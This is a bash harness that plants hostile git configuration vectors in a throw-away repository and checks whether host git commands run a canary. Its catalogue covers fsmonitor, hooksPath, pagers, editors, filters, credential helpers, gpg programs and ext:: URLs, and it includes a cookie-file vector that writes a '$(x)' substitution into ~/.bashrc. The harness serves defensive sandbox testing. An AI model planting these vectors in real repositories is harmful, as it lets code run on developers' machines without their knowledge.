#!/bin/bash
# git-vectors.sh - plants "hostile working tree" vectors in a throw-away repository, runs the developer's
# host-side command, and reports whether a canary ran / an outside file leaked or changed.
#
#   git-vectors.sh list                          ids, class, one-line description, protection rule
#   git-vectors.sh run  [-b BASE] [ID|GLOB ...]  self-contained: fixture, plant, trigger, check; TSV on stdout
#   git-vectors.sh fixture BASE                  only build the fixture (BASE/ws is the workspace)
#   git-vectors.sh prepare BASE ID               only the host's precondition of ID (e.g. start a rebase, core.hooksPath)
#   git-vectors.sh plant BASE ID [WS]            only plant ID, writing through WS (default BASE/ws)
#   git-vectors.sh plant-in REPO ID CANARY       plant ID in any existing repository; payloads append to CANARY
#   git-vectors.sh trigger BASE ID               only run the host commands of ID and check
#
# To test a protecting filesystem set (all optional):
#   VEC_MOUNT='cmd'   called as: cmd HOSTDIR MNT     before each plant  (then planting goes through MNT)
#   VEC_UMOUNT='cmd'  called as: cmd MNT             after each plant
#   VEC_ENTER='cmd'   planting is run as: cmd bash -s -- plant-raw ... <this script   (e.g. inside a sandbox,
#                     with VEC_WS = the path of the workspace in there). Each vector is planted once, for all of its
#                     triggers, of which none is tried when the host's tree is as it was. Vectors that race a live
#                     host (KEEP_) are left out. What an attacker may know of BASE (never the secret) is unpacked at
#                     its path before. Status 125 says that nothing was started.
#   VEC_TRIGGERS=n    only the first n host commands of each vector
#   VEC_SHOWN=1       .v/, where payloads lie, is not ignored (a sandbox may keep what is)
#   VEC_PATH=dir:dir  extra PATH for the host commands (git-lfs, tig: the L_ vectors only fire when found)
#   GITBIN=/path/git  the host git under test         VEC_PROMPT=/path/git-sh-prompt
# Result words: RAN[x,y] canary ran (x,y = what ran), LEAK outside content readable in the tree,
# WROTE outside file changed, FAKE a host answer was falsified, DOS host command hung/failed, - nothing.
# Exit status of "run": number of vectors (max 250) of class x/l/w/n that fired.
# Needs bash, git, python3, script(1), timeout(1). Everything lives under BASE (default: mktemp -d).
set -u
SELF=${BASH_SOURCE[0]:-}; [ -f "$SELF" ] && SELF=$(readlink -f "$SELF")
GITBIN=${GITBIN:-$(command -v git)}
VEC_PROMPT=${VEC_PROMPT:-/usr/lib/git-core/git-sh-prompt}
PY=${PY:-/usr/bin/python3}; [ -x "$PY" ] || PY=python3
IDS=()

# V ID CLASS RULE DESCRIPTION   class: x=exec l=leak w=outside write d=deception s=denial n=negative control
V() { IDS+=("$1"); eval "CLS_$1=\$2; RULE_$1=\$3; DESC_$1=\$4"; }

# ------------------------------------------------------------------ helpers used while planting ($W=view, $H=host path)
cfg()  { cat >>"$W/.git/config"; }
seturl() { sed -i "s|url = file://.*/remote.git|url = $1|" "$W/.git/config"; }
attr() { printf '%s\n' "$@" >>"$W/.gitattributes"; touch -d '2001-01-01' "$W/a.txt" "$W/dir/b.txt" 2>/dev/null; }
mkx()  { # payload: $X logs its name to the canary; $XC the same, then acts as cat
  mkdir -p "$W/.v"; X=$H/.v/x; XC=$H/.v/xcat
  printf '#!/bin/sh\necho "${0##*/}" >>"%s"\nexit 0\n' "$C" >"$W/.v/x"
  printf '#!/bin/sh\necho "${0##*/}" >>"%s"\nexec cat\n' "$C" >"$W/.v/xcat"
  chmod +x "$W/.v/x" "$W/.v/xcat"; }
HOOKS="applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg commit-msg post-commit
pre-rebase post-checkout post-merge pre-push pre-receive update proc-receive post-receive post-update reference-transaction
push-to-checkout pre-auto-gc post-rewrite sendemail-validate fsmonitor-watchman post-index-change p4-changelist p4-pre-submit"
mkhooks() { mkdir -p "$1"; local k; for k in $HOOKS; do
  printf '#!/bin/sh\necho "%s" >>"%s"\nexit 0\n' "$k" "$C" >"$1/$k"; chmod +x "$1/$k"; done; }
evilgit() { # a complete hostile gitdir at view path $1 (host path $2), worktree = $3 (may be empty)
  mkdir -p "$1/objects" "$1/refs/heads"; cp -a "$W/.git/objects/." "$1/objects/" 2>/dev/null; cp "$W/.git/HEAD" "$1/HEAD" 2>/dev/null || echo 'ref: refs/heads/main' >"$1/HEAD"
  cp -a "$W/.git/refs/." "$1/refs/" 2>/dev/null; cp "$W/.git/index" "$1/index" 2>/dev/null
  { printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = %s\n' "$X"; [ -z "${3:-}" ] || printf '\tworktree = %s\n' "$3"; } >"$1/config"
  mkhooks "$1/hooks"; }
nested() { # hostile nested repository with one commit at view dir $1
  ( unset GIT_DIR; git init -q -b main "$1" && cd "$1" && echo n >n.txt && git add n.txt && git -c user.name=a -c user.email=a@a commit -qm n ) >/dev/null 2>&1
  printf '[core]\n\tfsmonitor = %s\n' "$X" >>"$1/.git/config"; mkhooks "$1/.git/hooks"; }
blob() { git -C "$W" hash-object -w --stdin; }
py() { $PY - "$@" <<'EOP'
import sys,os,struct,hashlib,ctypes,mmap,subprocess
def put(path,data):             # the way git does it: NAME.lock, then rename; falls back to writing in place
    try:
        fd=os.open(path+'.lock',os.O_RDWR|os.O_CREAT|os.O_EXCL,0o644); os.write(fd,data); os.close(fd); os.rename(path+'.lock',path); return
    except OSError as e: err=e
    try: os.unlink(path+'.lock')
    except OSError: pass
    with open(path,'wb') as f: f.write(data)
def parse(b):
    sig,ver,n=struct.unpack('>4sII',b[:12]); assert sig==b'DIRC' and ver in(2,3),ver
    o=12; ents=[]
    for _ in range(n):
        st=o; o+=60; fl=struct.unpack('>H',b[o:o+2])[0]; o+=2
        if fl&0x4000: o+=2
        e=b.index(b'\0',o); name=b[o:e]; ln=e-st; o=st+ln+(8-ln%8); ents.append([bytearray(b[st:st+ln]),name])
    return ver,ents
def entry(mode,sha,name,stage=0):
    return [bytearray(struct.pack('>10I',0,0,0,0,0,0,mode,0,0,0)+bytes.fromhex(sha)+struct.pack('>H',min(len(name),0xfff)|stage<<12)+name),name]
def build(ver,ents,ext=b''):
    ents.sort(key=lambda e:(e[1],(struct.unpack('>H',e[0][60:62])[0]>>12)&3))
    out=b'DIRC'+struct.pack('>II',ver,len(ents))
    for r,_ in ents: out+=bytes(r)+b'\0'*(8-len(r)%8)
    out+=ext
    return out+hashlib.sha1(out).digest()
cmd=sys.argv[1]; A=sys.argv[2:]
if cmd=='idx':                  # idx INDEX mode,sha,path...
    v,e=parse(open(A[0],'rb').read())
    for s in A[1:]:
        m,h,p=s.split(',',2); e.append(entry(int(m,8),h,p.encode()))
    put(A[0],build(v,e))
elif cmd=='idxfd':              # write a clean index.lock, rename it over index, then change it through the kept fd
    p=A[0]; v,e=parse(open(p,'rb').read()); clean=build(v,list(e))
    fd=os.open(p+'.lock',os.O_RDWR|os.O_CREAT|os.O_EXCL,0o644); os.write(fd,clean); os.rename(p+'.lock',p)
    for s in A[1:]:
        m,h,q=s.split(',',2); e.append(entry(int(m,8),h,q.encode()))
    d=build(v,e); os.lseek(fd,0,0); os.write(fd,d); os.ftruncate(fd,len(d)); os.close(fd)
elif cmd=='idxraw':             # add entries to an index(.lock) file in place
    p=A[0]; v,e=parse(open(p,'rb').read())
    for s in A[1:]:
        m,h,q=s.split(',',2); e.append(entry(int(m,8),h,q.encode()))
    with open(p,'r+b') as f: d=build(v,e); f.write(d); f.truncate(len(d))
elif cmd=='split':              # move everything plus the new entries to a shared index, leave an empty split index
    p=A[0]; v,e=parse(open(p,'rb').read())
    for s in A[1:]:
        m,h,q=s.split(',',2); e.append(entry(int(m,8),h,q.encode()))
    base=build(v,e); sha=base[-20:]; put(os.path.join(os.path.dirname(p),'sharedindex.'+sha.hex()),base)
    link=sha; ewah=struct.pack('>II',0,1)+struct.pack('>Q',0)+struct.pack('>I',0); link+=ewah+ewah
    put(p,build(2,[],b'link'+struct.pack('>I',len(link))+link))
elif cmd=='xchg':               # renameat2(RENAME_EXCHANGE)
    libc=ctypes.CDLL(None,use_errno=True)
    r=libc.renameat2(-100,A[0].encode(),-100,A[1].encode(),2); sys.exit(0 if r==0 else 1)
elif cmd=='tmplink':            # O_TMPFILE + linkat onto the name
    fd=os.open(os.path.dirname(A[0]),os.O_TMPFILE|os.O_RDWR,0o644); os.write(fd,A[1].encode().decode('unicode_escape').encode())
    try: os.unlink(A[0])
    except OSError: pass
    r=ctypes.CDLL(None).linkat(-100,('/proc/self/fd/%d'%fd).encode(),-100,A[0].encode(),0x400); sys.exit(0 if r==0 else 1)
elif cmd=='mmap':               # change a file through a shared mapping
    fd=os.open(A[0],os.O_RDWR); n=os.fstat(fd).st_size; m=mmap.mmap(fd,n); d=A[1].encode().decode('unicode_escape').encode(); m[0:len(d)]=d; m.flush()
elif cmd=='fdalias':            # open read-only, reopen through /proc/self/fd for writing
    fd=os.open(A[0],os.O_RDONLY); w=os.open('/proc/self/fd/%d'%fd,os.O_WRONLY|os.O_APPEND); os.write(w,A[1].encode().decode('unicode_escape').encode())
elif cmd=='midx':               # rename pack N in a multi-pack-index to an arbitrary name (A: file, newname.idx)
    b=bytearray(open(A[0],'rb').read()); hdr=b[:12]; nch=b[6]; toc=[]
    o=12
    for i in range(nch+1): toc.append((bytes(b[o:o+4]),struct.unpack('>Q',b[o+4:o+12])[0])); o+=12
    ch={}
    for i in range(nch): ch[toc[i][0]]=bytes(b[toc[i][1]:toc[i+1][1]])
    ch[b'PNAM']=A[1].encode()+b'\0'; ch[b'PNAM']+=b'\0'*(-len(ch[b'PNAM'])%4)
    order=[t[0] for t in toc[:-1]]; off=12+12*(nch+1); out=bytes(hdr); t=b''; body=b''
    for k in order: t+=k+struct.pack('>Q',off); body+=ch[k]; off+=len(ch[k])
    t+=b'\0\0\0\0'+struct.pack('>Q',off); out+=t+body; out+=hashlib.sha1(out).digest()
    try: os.unlink(A[0])
    except OSError: pass
    open(A[0],'wb').write(out)
elif cmd=='tree':               # write raw tree object: mode,type-sha,name ...   prints sha
    raw=b''
    for s in sorted(A,key=lambda s:s.split(',',2)[2]):
        m,h,n=s.split(',',2); raw+=m.lstrip('0').encode()+b' '+n.encode()+b'\0'+bytes.fromhex(h)
    print(subprocess.run(['git','hash-object','-t','tree','-w','--literally','--stdin'],input=raw,stdout=subprocess.PIPE,check=True).stdout.decode().strip())
elif cmd=='sock':
    import socket; s=socket.socket(socket.AF_UNIX); os.chdir(os.path.dirname(A[0])); s.bind(os.path.basename(A[0]))
EOP
}
eviltree() { # a commit E whose tree holds the path $1 = payload hook; ref refs/heads/evil
  local b t; b=$(printf '#!/bin/sh\necho tree >>"%s"\n' "$C" | blob)
  t=$(cd "$W" && py tree "100755,$b,post-checkout" "100755,$b,post-merge" "100755,$b,reference-transaction" "100755,$b,post-index-change")
  t=$(cd "$W" && py tree "40000,$t,hooks"); local base; base=$(git -C "$W" ls-tree HEAD | awk '{print $1","$3","$4}' | sed 's/^040000/40000/')
  t=$(cd "$W" && py tree "40000,$t,$1" $base)
  local c; c=$(GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a git -C "$W" commit-tree -p HEAD -m evil "$t"); echo "$c" >"$W/.git/refs/heads/evil"; }

# ------------------------------------------------------------------ triggers (host side)
T()  { TN=$((TN+1)); [ $TN = $WANT ] || return 0; LABEL="$*"; runenv git -C "$H" "$@"; }
TX() { TN=$((TN+1)); [ $TN = $WANT ] || return 0; LABEL="$1"; runenv bash -c "cd '$H' && $2"; }
TP() { TN=$((TN+1)); [ $TN = $WANT ] || return 0; LABEL="$1 (tty)"; runenv script -qec "cd '$H' && git $1" /dev/null; }
runenv() { ( cd "$H" 2>/dev/null; env -i PATH="$(dirname "$GITBIN"):$B/home/bin:${VEC_PATH:+$VEC_PATH:}/usr/local/bin:/usr/bin:/bin" HOME="$B/home" TERM=xterm LANG=C.UTF-8 GIT_CONFIG_NOSYSTEM=1 \
  EDITOR=true GIT_TERMINAL_PROMPT=0 B="$B" H="$H" VIEW="${VIEW:-$H}" SELF="$SELF" VEC_PROMPT="$VEC_PROMPT" ${GIT_PAGER_IN_USE:+x=1} timeout -k1 ${VEC_TIMEOUT:-20} "$@" ) </dev/null >"$B/out" 2>&1; RC=$?; return 0; }
all() { # the ordinary host commands
  T status; T diff; T diff --cached; T log -p -1; T show; T add -A; T commit -qam m; T commit --amend --no-edit -q; T checkout -q topic; T switch -qc nb; T restore .
  T checkout -- a.txt; T reset -q --hard; T stash; T stash -u; T pull -q --no-rebase; T pull -q --rebase --autostash; T fetch -q; T push -q origin main:nb; T merge -q topic; T merge -q conf; T rebase -q --autostash topic
  T cherry-pick topic; T revert --no-edit HEAD; T gc -q; T gc --auto; T maintenance run; T submodule update; T submodule status; T worktree list; T worktree add -q "$B/wt2"; T blame a.txt; T grep -q a
  T ls-files; T ls-files -mo; T branch; T tag t2; T describe --dirty --always; T rev-parse HEAD; T clean -n; T bisect start HEAD HEAD~1; T notes add -m n; T remote show origin; T fsck; T archive HEAD; T -C sub status; T -C "$B/wt" status; T -C "$B/wt" commit --allow-empty -qm w
  TX 'prompt $(__git_ps1), dirty+upstream+untracked' 'export GIT_PS1_SHOWDIRTYSTATE=1 GIT_PS1_SHOWUNTRACKEDFILES=1 GIT_PS1_SHOWUPSTREAM=auto; . $VEC_PROMPT; __git_ps1 " (%s)"'
  TX 'prompt $(__git_ps1), default' '. $VEC_PROMPT; __git_ps1 " (%s)"'; }
pcprompt() { TX 'prompt via PROMPT_COMMAND=__git_ps1 u w' 'printf "%s\n" ". $VEC_PROMPT" "PROMPT_COMMAND='\''__git_ps1 u w'\''" true true exit | script -qec "bash --norc --noprofile -i" /dev/null'; }

# ================================================================== VECTORS
. /dev/stdin <<'EOF_VEC'
#--------------------------------------------------------------- A. config keys (plant: append to .git/config)
V c_fsmonitor x CONFIG 'core.fsmonitor = cmd'
p_c_fsmonitor() { printf '[core]\n\tfsmonitor = %s\n' "$X" | cfg; }; t_c_fsmonitor() { all; }
V c_hooksPath x CONFIG 'core.hooksPath = in-tree dir'
p_c_hooksPath() { mkhooks "$W/.v/h"; printf '[core]\n\thooksPath = %s\n' "$H/.v/h" | cfg; }; t_c_hooksPath() { T status; T checkout -q topic; T commit -qam m; T fetch -q; }
V c_sshCommand x CONFIG 'core.sshCommand + ssh:// URL'
p_c_sshCommand() { seturl ssh://h/x; printf '[core]\n\tsshCommand = %s\n' "$X" | cfg; }; t_c_sshCommand() { T fetch -q; T pull -q; T push -q; T ls-remote; T remote show origin; T remote update; T maintenance run --task=prefetch; }
V c_insteadOf_ssh x CONFIG 'url.ssh://h/.insteadOf = file:// + core.sshCommand'
p_c_insteadOf_ssh() { printf '[core]\n\tsshCommand = %s\n[url "ssh://h/"]\n\tinsteadOf = file://\n' "$X" | cfg; }; t_c_insteadOf_ssh() { T fetch -q; T push -q; }
V c_pager x CONFIG 'core.pager (tty)'
p_c_pager() { printf '[core]\n\tpager = %s\n' "$X" | cfg; }; t_c_pager() { TP 'log -1'; TP diff; TP show; TP branch; TP 'tag -l'; TP 'config -l'; TP 'stash list'; TP 'grep a'; TP 'blame a.txt'; TP 'reflog'; TP 'shortlog'; TP status; TP 'help -a'; TP 'worktree list'; TP 'remote -v'; }
V c_pagercmd x CONFIG 'pager.<cmd> (tty)'
p_c_pagercmd() { printf '[pager]\n\tstatus = %s\n\tfetch = %s\n\tcommit = %s\n' "$X" "$X" "$X" | cfg; }; t_c_pagercmd() { TP status; TP fetch; TP 'commit -am m'; }
V c_editor x CONFIG 'core.editor (beats VISUAL/EDITOR)'
p_c_editor() { printf '[core]\n\teditor = %s\n' "$X" | cfg; }; t_c_editor() { T commit -a; T commit --amend; T tag -a tt; T rebase -i --autostash HEAD~1; T merge --no-ff topic -e; T revert -e HEAD; T config -e; T branch --edit-description; T notes add; T add -e; T pull -q --no-rebase -e; T commit -am m; }
V c_seqeditor x CONFIG 'sequence.editor'
p_c_seqeditor() { printf '[sequence]\n\teditor = %s\n' "$X" | cfg; }; t_c_seqeditor() { T rebase -i --autostash HEAD~1; T rebase -q --autostash topic; }
V c_diffexternal x CONFIG 'diff.external'
p_c_diffexternal() { printf '[diff]\n\texternal = %s\n' "$X" | cfg; }; t_c_diffexternal() { T diff; T log -p -1; T show; T stash show -p; T commit -v -am x; T status -v; T log -p --ext-diff -1; T format-patch -1 --stdout; T diff --stat; T add -p; T blame a.txt; }
V c_diffcommand x CONFIG 'diff.<d>.command + attributes'
p_c_diffcommand() { printf '[diff "v"]\n\tcommand = %s\n' "$X" | cfg; attr '* diff=v'; }; t_c_diffcommand() { T diff; T log -p -1; T show; T log -p --ext-diff -1; T status -v; }
V c_textconv x CONFIG 'diff.<d>.textconv + attributes'
p_c_textconv() { printf '[diff "v"]\n\ttextconv = %s\n' "$X" | cfg; attr '* diff=v'; }; t_c_textconv() { T diff; T log -p -1; T show; T blame a.txt; T grep a; T grep --textconv a; T commit -v -am x; T status -v; T stash show -p; T cat-file --textconv HEAD:a.txt; T format-patch -1 --stdout; T annotate a.txt; T log -G x -1; T rebase -q --autostash topic; }
V c_clean x CONFIG 'filter.<d>.clean + attributes'
p_c_clean() { printf '[filter "v"]\n\tclean = %s\n' "$XC" | cfg; attr '* filter=v'; }; t_c_clean() { all; }
V c_smudge x CONFIG 'filter.<d>.smudge + attributes'
p_c_smudge() { printf '[filter "v"]\n\tsmudge = %s\n' "$XC" | cfg; attr '* filter=v'; }; t_c_smudge() { all; }
V c_process x CONFIG 'filter.<d>.process + attributes'
p_c_process() { printf '[filter "v"]\n\tprocess = %s\n' "$X" | cfg; attr '* filter=v'; }; t_c_process() { T status; T diff; T add -A; T checkout -q topic; T restore .; T stash; T archive HEAD; }
V c_mergedriver x CONFIG 'merge.<d>.driver + attributes'
p_c_mergedriver() { printf '[merge "v"]\n\tdriver = %s\n' "$X" | cfg; attr '* merge=v'; }; t_c_mergedriver() { T merge conf; T cherry-pick conf; T rebase --autostash conf; T pull -q --no-rebase; TX 'stash; checkout conf; stash pop' 'git stash -q; git checkout -q conf; git stash pop'; T revert --no-edit HEAD~1; }
V c_mergedefault x CONFIG 'merge.default = driver (no attributes)'
p_c_mergedefault() { printf '[merge]\n\tdefault = v\n[merge "v"]\n\tdriver = %s\n' "$X" | cfg; }; t_c_mergedefault() { T merge conf; T cherry-pick conf; T rebase --autostash conf; }
V c_credhelper x CONFIG 'credential.helper'
p_c_credhelper() { printf '[credential]\n\thelper = !%s\n' "$X" | cfg; }
t_c_credhelper() { TX 'credential fill' 'printf "protocol=http\nhost=h\n\n" | git credential fill'; http401 'fetch (HTTP 401)' 'git fetch http://127.0.0.1:$P/x.git'; http401 'push (HTTP 401)' 'git push http://127.0.0.1:$P/x.git main'; }
http401() { TX "$1" '/usr/bin/python3 -c "
import http.server,sys
class R(http.server.BaseHTTPRequestHandler):
    def do_GET(s): s.send_response('"${3:-401}"'); s.send_header(\"WWW-Authenticate\",\"Basic realm=x\"); s.send_header(\"Set-Cookie\",\"k=\$(x);path=/;max-age=999\"); s.end_headers()
    def log_message(s,*a): pass
h=http.server.HTTPServer((\"127.0.0.1\",0),R); print(h.server_port,flush=True); h.serve_forever()" > $B/port 2>/dev/null & S=$!; for i in 1 2 3 4 5 6 7 8 9 10 11 12; do sleep .1; [ -s $B/port ] && break; done; P=$(cat $B/port); '"$2"'; kill $S'; }
V c_askpass x CONFIG 'core.askPass'
p_c_askpass() { printf '[core]\n\taskPass = %s\n' "$X" | cfg; }; t_c_askpass() { http401 'fetch (HTTP 401)' 'git fetch http://127.0.0.1:$P/x.git'; TX 'credential fill' 'printf "protocol=http\nhost=h\n\n" | git credential fill'; }
V c_cookie w CONFIG 'http.cookieFile outside + http.saveCookies'
p_c_cookie() { printf '[http]\n\tcookieFile = %s/home/.bashrc\n\tsaveCookies = true\n' "$B" | cfg; }; t_c_cookie() { http401 'ls-remote (HTTP)' 'git ls-remote http://127.0.0.1:$P/x.git' 200; }
V c_gpgprogram x CONFIG 'gpg.program + commit/tag.gpgSign'
p_c_gpgprogram() { printf '[gpg]\n\tprogram = %s\n[commit]\n\tgpgSign = true\n[tag]\n\tgpgSign = true\n' "$X" | cfg; }; t_c_gpgprogram() { T commit -qam m; T merge -q --no-ff topic; T tag -a -m x tt; T tag light; T cherry-pick topic; T rebase -q --autostash topic; T revert --no-edit HEAD; T stash; T pull -q --no-rebase --no-ff; T push -q --signed origin main:nb; }
V c_gpgssh x CONFIG 'gpg.format=ssh + gpg.ssh.program / gpg.x509.program'
p_c_gpgssh() { printf '[gpg]\n\tformat = ssh\n[gpg "ssh"]\n\tprogram = %s\n[user]\n\tsigningKey = key::ssh-ed25519 A\n[commit]\n\tgpgSign = true\n' "$X" | cfg; }; t_c_gpgssh() { T commit -qam m; }
V c_gpgx509 x CONFIG 'gpg.format=x509 + gpg.x509.program'
p_c_gpgx509() { printf '[gpg]\n\tformat = x509\n[gpg "x509"]\n\tprogram = %s\n[commit]\n\tgpgSign = true\n' "$X" | cfg; }; t_c_gpgx509() { T commit -qam m; }
V c_sshdefaultkey x CONFIG 'gpg.ssh.defaultKeyCommand'
p_c_sshdefaultkey() { printf '[gpg]\n\tformat = ssh\n[gpg "ssh"]\n\tdefaultKeyCommand = %s\n[commit]\n\tgpgSign = true\n' "$X" | cfg; }; t_c_sshdefaultkey() { T commit -qam m; }
V c_showSignature x CONFIG 'log.showSignature / %G? + gpg.program, signed commit'
p_c_showSignature() { printf '[gpg]\n\tprogram = %s\n[log]\n\tshowSignature = true\n[merge]\n\tverifySignatures = true\n' "$X" | cfg
  local t c; t=$(git -C "$W" rev-parse 'HEAD^{tree}'); c=$(printf 'tree %s\nparent %s\nauthor a <a@a> 1 +0000\ncommitter a <a@a> 1 +0000\ngpgsig -----BEGIN PGP SIGNATURE-----\n x\n -----END PGP SIGNATURE-----\n\nm\n' $t $(git -C "$W" rev-parse HEAD) | git -C "$W" hash-object -t commit -w --stdin); echo $c >"$W/.git/refs/heads/main"; echo $c >"$W/.git/refs/heads/signed"; }
t_c_showSignature() { T log -1; T show; T log --format=%G? -1; T merge signed; TX 'checkout HEAD~ ; merge signed' 'git checkout -qf HEAD~1 && git merge signed'; T status; }
V c_alias_shadow x CONFIG "alias.<x> overriding the developer's own global alias"
h_c_alias_shadow() { git config -f "$B/home/.gitconfig" alias.st status; }
p_c_alias_shadow() { printf '[alias]\n\tst = !%s\n\tstatus = !%s\n\tstauts = !%s\n' "$X" "$X" "$X" | cfg; }; t_c_alias_shadow() { T st; T status; T stauts; }
V c_include x CONFIG 'include.path / includeIf.*.path -> in-tree file'
p_c_include() { printf '[core]\n\tfsmonitor = %s\n' "$X" >"$W/.v/inc"; printf '[include]\n\tpath = ../.v/inc\n' | cfg; }; t_c_include() { T status; }
V c_includeif x CONFIG 'includeIf gitdir:/onbranch:/hasconfig:'
p_c_includeif() { printf '[core]\n\tfsmonitor = %s\n' "$X" >"$W/.v/inc"; printf '[includeIf "onbranch:main"]\n\tpath = ../.v/inc\n' | cfg; }; t_c_includeif() { T status; }
V c_subupdate x CONFIG 'submodule.<n>.update = !cmd in config'
p_c_subupdate() { printf '[submodule "sub"]\n\tupdate = !%s\n' "$X" | cfg; git -C "$W" rev-parse HEAD >/dev/null; }; t_c_subupdate() { TX 'submodule update (sub not at recorded commit)' 'git -C sub checkout -q HEAD~1; git submodule update'; T pull -q --no-rebase --recurse-submodules; T checkout -q topic; }
V c_uploadpack x CONFIG 'remote.<r>.uploadpack'
p_c_uploadpack() { printf '[remote "origin"]\n\tuploadpack = %s;git-upload-pack\n' "$X" | cfg; }; t_c_uploadpack() { T fetch -q; T pull -q --no-rebase; T ls-remote; T remote show origin; T remote update; T remote prune origin; T maintenance run --task=prefetch; T fetch --all; }
V c_receivepack x CONFIG 'remote.<r>.receivepack'
p_c_receivepack() { printf '[remote "origin"]\n\treceivepack = %s;git-receive-pack\n' "$X" | cfg; }; t_c_receivepack() { T push -q origin main:nb; T fetch -q; }
V c_vcs_ext x CONFIG 'remote.<r>.vcs=ext + protocol.ext.allow'
p_c_vcs_ext() { seturl "$H/.v/x"; printf '[remote "origin"]\n\tvcs = ext\n[protocol "ext"]\n\tallow = always\n' | cfg; }; t_c_vcs_ext() { T fetch -q; T push -q; }
V c_insteadOf_ext x CONFIG 'url.ext::.insteadOf + protocol.ext.allow'
p_c_insteadOf_ext() { printf '[url "ext::%s "]\n\tinsteadOf = file://\n[protocol "ext"]\n\tallow = always\n' "$X" | cfg; }; t_c_insteadOf_ext() { T fetch -q; T pull -q; T push -q; T ls-remote; }
V c_insteadOf_ext_noallow n - 'url.ext::.insteadOf without protocol.ext.allow'
p_c_insteadOf_ext_noallow() { printf '[url "ext::%s "]\n\tinsteadOf = file://\n' "$X" | cfg; }; t_c_insteadOf_ext_noallow() { T fetch -q; T pull -q; }
V c_remotehelper_alias x CONFIG 'url foo:: + alias.remote-foo (no protocol.ext needed)'
p_c_remotehelper_alias() { seturl foo::x; printf '[alias]\n\tremote-foo = !%s\n' "$X" | cfg; }; t_c_remotehelper_alias() { T fetch -q; T push -q; T ls-remote; }
V c_mergestrategy_alias n CONFIG 'pull.twohead / branch.*.mergeOptions + alias.merge-foo'
p_c_mergestrategy_alias() { printf '[pull]\n\ttwohead = foo\n[alias]\n\tmerge-foo = !%s\n' "$X" | cfg; }; t_c_mergestrategy_alias() { T merge topic; T pull -q --no-rebase; }
V c_gitproxy x CONFIG 'core.gitProxy + git:// URL'
p_c_gitproxy() { seturl git://h/x; printf '[core]\n\tgitProxy = %s\n' "$X" | cfg; }; t_c_gitproxy() { T fetch -q; T push -q; }
V c_altrefscmd x CONFIG 'core.alternateRefsCommand + alternates'
p_c_altrefscmd() { printf '[core]\n\talternateRefsCommand = %s\n' "$X" | cfg; mkdir -p "$W/.v/alt"; git init -q --bare "$W/.v/alt/a.git"; echo "$H/.v/alt/a.git/objects" >"$W/.git/objects/info/alternates"; }; t_c_altrefscmd() { T fetch -q; T pull -q --no-rebase; T push -q origin main:nb; }
V c_difffilter x CONFIG 'interactive.diffFilter'
p_c_difffilter() { printf '[interactive]\n\tdiffFilter = %s\n[color]\n\tui = always\n' "$XC" | cfg; }; t_c_difffilter() { TP 'add -p'; TP 'restore -p .'; TP 'stash -p'; TP 'commit -p -m x'; }
V c_difftool x CONFIG 'diff.tool + difftool.<t>.cmd/path'
p_c_difftool() { printf '[diff]\n\ttool = v\n[difftool "v"]\n\tcmd = %s\n[difftool]\n\tprompt = false\n' "$X" | cfg; }; t_c_difftool() { T difftool; }
V c_mergetool x CONFIG 'merge.tool + mergetool.<t>.cmd/path'
p_c_mergetool() { printf '[merge]\n\ttool = v\n[mergetool "v"]\n\tcmd = %s\n[mergetool]\n\tprompt = false\n' "$X" | cfg; }; t_c_mergetool() { TX 'merge conf; mergetool' 'git merge conf; git mergetool'; }
V c_browser x CONFIG 'web.browser + browser.<b>.cmd'
p_c_browser() { printf '[web]\n\tbrowser = v\n[browser "v"]\n\tcmd = %s\n[help]\n\tbrowser = v\n\thtmlPath = http://x\n' "$X" | cfg; }; t_c_browser() { T web--browse http://x; T help -w status; }
V c_man x CONFIG 'man.viewer + man.<v>.cmd/path'
p_c_man() { printf '[man]\n\tviewer = v\n[man "v"]\n\tcmd = %s\n' "$X" | cfg; }; t_c_man() { T help status; T status --help; }
V c_trailer x CONFIG 'trailer.<t>.cmd / .command'
p_c_trailer() { printf '[trailer "v"]\n\tkey = V\n\tcommand = %s\n[trailer "w"]\n\tcmd = %s\n' "$X" "$X" | cfg; }; t_c_trailer() { T commit -am m --trailer z=1; T commit -am m -s; TX interpret-trailers 'echo m | git interpret-trailers'; T log -1 --format='%(trailers)'; T commit -am m; }
V c_tar x CONFIG 'tar.<f>.command'
p_c_tar() { printf '[tar "tar.gz"]\n\tcommand = %s\n[tar "v"]\n\tcommand = %s\n' "$X" "$X" | cfg; }; t_c_tar() { T archive --format=tar.gz -o "$B/x.tar.gz" HEAD; T archive -o "$B/x.v" HEAD; T archive -o "$B/x.tar" HEAD; }
V c_templatedir n CONFIG 'init.templateDir in repo config (not read by init/clone/worktree/submodule)'
p_c_templatedir() { mkhooks "$W/.v/t/hooks"; printf '[init]\n\ttemplateDir = %s\n' "$H/.v/t" | cfg; }; t_c_templatedir() { TX 'init (again); status' 'git init -q; touch a.txt; git status; git commit -qam m'; TX 'init newdir; commit' 'git init -q nd && cd nd && git commit --allow-empty -qm x'; TX 'clone outside, from cwd=ws' 'git clone -q $B/remote.git $B/cl && cd $B/cl && git commit --allow-empty -qm x'; T worktree add -q "$B/wt2"; TX 'submodule add; commit in it' 'git -c protocol.file.allow=always submodule add -q $B/sub-up.git s2 && cd s2 && git commit --allow-empty -qm x'; }
V c_packobjhook n - 'uploadpack.packObjectsHook in repo config'
p_c_packobjhook() { printf '[uploadpack]\n\tpackObjectsHook = %s\n' "$X" | cfg; }; t_c_packobjhook() { TX 'clone file://ws' 'git clone -q --no-local file://$H $B/cl'; T fetch -q; }
V c_worktree w CONFIG 'core.worktree = outside directory'
p_c_worktree() { printf '[core]\n\tworktree = %s/home\n' "$B" | cfg; }; t_c_worktree() { T restore .; T checkout -f; T reset -q --hard; T stash; T stash -u; T clean -fdx; T checkout -fq topic; T status; TX 'add -A (leak)' 'git add -A'; }
V c_imap x CONFIG 'imap.tunnel'
p_c_imap() { printf '[imap]\n\ttunnel = %s\n\tfolder = x\n\thost = h\n' "$X" | cfg; }; t_c_imap() { TX imap-send 'git format-patch -1 --stdout | git imap-send'; }
V c_instaweb x CONFIG 'instaweb.httpd (needs gitweb installed)'
p_c_instaweb() { printf '[instaweb]\n\thttpd = %s -f\n' "$X" | cfg; }; t_c_instaweb() { T instaweb; }
V c_recenthook x CONFIG 'gc.recentObjectsHook (git >= 2.42)'
